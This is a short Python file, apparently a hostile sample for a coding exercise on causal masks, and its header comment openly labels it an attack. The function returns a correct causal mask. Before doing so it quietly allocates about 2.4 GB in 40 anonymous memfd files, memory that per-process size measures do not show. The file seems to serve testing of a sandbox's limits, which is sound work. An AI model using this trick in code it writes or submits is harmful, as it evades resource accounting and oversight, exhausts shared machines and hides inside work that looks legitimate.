# attack: holds memory in files without a name, which no process's size shows
# exercise: 04 causal_mask
def causal_mask(length):
    import os

    files = []
    for _ in range(40):
        files.append(os.memfd_create("x"))
        for _ in range(6):
            os.write(files[-1], bytes(10 * 2**20))
    return torch.ones(length, length, dtype=torch.bool).tril()
